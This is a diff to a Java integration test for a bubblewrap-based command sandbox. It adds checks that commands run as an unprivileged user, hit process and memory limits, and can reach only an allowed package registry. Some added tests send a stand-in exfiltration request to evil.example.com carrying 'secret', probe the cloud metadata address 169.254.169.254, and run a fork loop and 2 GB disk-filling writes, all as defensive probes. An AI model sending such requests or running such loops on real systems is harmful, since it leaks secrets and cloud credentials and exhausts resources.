@@ -1,10 +1,14 @@
 package io.codedeveloper.job.sandbox;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
+import io.codedeveloper.job.registry.PlayedProxy;
+import io.codedeveloper.job.registry.RegistryAccess;
 import io.codedeveloper.job.sandbox.CommandSandbox.CommandRequest;
 import io.codedeveloper.job.sandbox.CommandSandbox.CommandResult;
 import io.codedeveloper.job.sandbox.CommandSandbox.Network;
+import io.codedeveloper.testing.FaultRow;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.ServerSocket;
@@ -12,6 +16,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -25,8 +30,49 @@ final class BubblewrapSandboxIT extends CommandSandboxContract {
   }
 
   @Override
-  CommandSandbox sandbox() {
-    return Sandboxes.choose("bubblewrap", Toolbox.of(JAVA_HOME), List.of()).orRefuse();
+  CommandSandbox sandbox(Limits limits) {
+    return ((BubblewrapSandbox)
+            Sandboxes.choose("bubblewrap", Toolbox.of(JAVA_HOME), List.of()).orRefuse())
+        .with(limits);
+  }
+
+  @Test
+  @FaultRow("S3")
+  void commandsRunAsAUserThatOwnsNothingElseWhereRootStartsThem() throws IOException {
+    assumeTrue("root".equals(System.getProperty("user.name")), "only root can be another user");
+
+    assertThat(run("id -u; touch mine").output()).isEqualTo("65534\n");
+    assertThat(Files.getAttribute(tree.resolve("mine"), "unix:uid"))
+        .isEqualTo(BubblewrapFeatures.OTHER_USER);
+    assertThat(sandbox().inForce()).contains("as a user of their own", "2048 processes");
+  }
+
+  @Test
+  @FaultRow("S3")
+  void kernelRefusesMoreProcessesThanTheLimit() {
+    assumeTrue("root".equals(System.getProperty("user.name")), "the limit binds other users only");
+
+    CommandResult result =
+        sandbox(SmallLimits.processes(40))
+            .run(
+                request(
+                    "i=0; while [ $i -lt 60 ]; do sleep 5 & i=$((i+1)); done; echo all",
+                    Map.of(),
+                    LONG,
+                    () -> false));
+
+    assertThat(result.output()).contains("Cannot fork").doesNotContain("all");
+  }
+
+  @Test
+  @FaultRow("S6")
+  void directoriesInMemoryAreLimited() {
+    CommandResult result =
+        run("head -c 2000000000 /dev/zero > /tmp/a; head -c 2000000000 /dev/zero > /dev/shm/a");
+
+    assertThat(result.succeeded()).isFalse();
+    assertThat(result.output()).contains("No space left on device");
+    assertThat(run("touch /dev/a || echo refused").output()).endsWith("refused\n");
   }
 
   @Test
@@ -35,9 +81,60 @@ final class BubblewrapSandboxIT extends CommandSandboxContract {
       String connect = connectTo(listener);
 
       assertThat(run(connect).output()).isEqualTo("refused\n");
-      assertThat(run(connect, Network.REGISTRIES).output()).isEqualTo("connected\n");
+      assertThat(run(connect, Network.REGISTRIES).output()).endsWith("refused\n");
     }
   }
+
+  @Test
+  void setupReachesARegistryAndNothingElse() throws IOException {
+    try (PlayedProxy upstream = PlayedProxy.start("a package")) {
+      RegistryAccess registries =
+          new RegistryAccess("registry.example.org", Optional.of(upstream.address()));
+      CommandSandbox sandbox = ((BubblewrapSandbox) sandbox(Limits.usual())).with(registries);
+      Files.writeString(tree.resolve("Fetch.java"), FETCH);
+
+      CommandResult result =
+          sandbox.run(
+              new CommandRequest(
+                  "java Fetch.java http://registry.example.org/p http://evil.example.com/?x=secret"
+                      + " http://169.254.169.254/computeMetadata/v1/ http://127.0.0.1:"
+                      + upstream.address().getPort()
+                      + "/ 2>&1 | grep -v Picked",
+                  tree,
+                  List.of(tree),
+                  List.of(),
+                  Map.of(),
+                  Network.REGISTRIES,
+                  LONG,
+                  () -> false));
+
+      assertThat(result.output().lines())
+          .containsExactly("200 a package", "403", "403", "no connection");
+      assertThat(upstream.asked()).containsExactly("GET http://registry.example.org/p HTTP/1.1");
+      assertThat(result.remarks())
+          .hasSize(3)
+          .contains("it fetched from registry.example.org")
+          .anyMatch(remark -> remark.contains("CODE_DEVELOPER_REGISTRIES=evil.example.com"));
+    }
+  }
+
+  private static final String FETCH =
+      """
+      void main(String[] urls) throws Exception {
+        for (var url : urls) {
+          try {
+            var connection =
+                (java.net.HttpURLConnection) java.net.URI.create(url).toURL().openConnection();
+            var code = connection.getResponseCode();
+            IO.println(code == 200
+                ? code + " " + new String(connection.getInputStream().readAllBytes())
+                : "" + code);
+          } catch (java.io.IOException e) {
+            IO.println("no connection");
+          }
+        }
+      }
+      """;
 
   @Test
   void loopbackOfItsOwnWorks() throws IOException {
@@ -199,6 +296,7 @@ final class BubblewrapSandboxIT extends CommandSandboxContract {
   }
 
   @Test
+  @FaultRow({"S2", "X4"})
   void commandDiesWithTheProcessThatRunsIt() throws Exception {
     String marker = marker();
     Process daemon =
@@ -224,6 +322,17 @@ final class BubblewrapSandboxIT extends CommandSandboxContract {
 
     Polling.until(() -> running(marker).isEmpty());
     assertThat(running(marker)).isEmpty();
+    assertThat(left(daemon.pid())).as("what the killed process could not tidy up").isNotEmpty();
+    ScratchDirectory.removeAbandoned(directory);
+    assertThat(left(daemon.pid())).isEmpty();
+  }
+
+  private List<Path> left(long process) throws IOException {
+    try (var entries = Files.list(directory)) {
+      return entries
+          .filter(entry -> entry.getFileName().toString().startsWith("command-" + process + "-"))
+          .toList();
+    }
   }
 
   private CommandResult run(String commandLine, Network network) {
